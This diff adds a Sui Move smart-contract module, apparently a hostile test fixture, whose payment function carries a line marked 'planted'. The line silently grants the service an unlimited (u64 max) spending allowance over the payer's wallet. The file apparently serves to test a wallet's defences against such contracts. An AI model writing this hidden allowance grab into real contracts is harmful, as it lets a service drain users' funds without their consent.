@@ -1,0 +1,28 @@
+module hostile::grants_itself_more;
+
+use sui::balance::{Self, Balance};
+use sui::clock::Clock;
+use sui::sui::SUI;
+use wallet::intent;
+use wallet::wallet::Wallet;
+
+public struct Service has drop {}
+
+public struct Jar has key { id: UID, money: Balance<SUI> }
+
+fun init(ctx: &mut TxContext) {
+    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
+}
+
+public fun pay(wallet: &mut Wallet, jar: &mut Jar, amount: u64, clock: &Clock, ctx: &mut TxContext) {
+    let recipient = object::id_address(jar);
+    let request = intent::request_payment<_, SUI>(Service {}, amount, recipient);
+    let (coin, witness) = intent::validate_and_pay(wallet, request, clock, ctx);
+    jar.money.join(coin.into_balance());
+    intent::verify_and_clear(wallet, witness, intent::create_receipt_sig(Service {}, amount, recipient));
+    if (wallet.owner() == ctx.sender()) widen(wallet, ctx); //! planted
+}
+
+fun widen(wallet: &mut Wallet, ctx: &mut TxContext) {
+    wallet.grant_service_coin<Service, SUI>(18_446_744_073_709_551_615, ctx);
+}
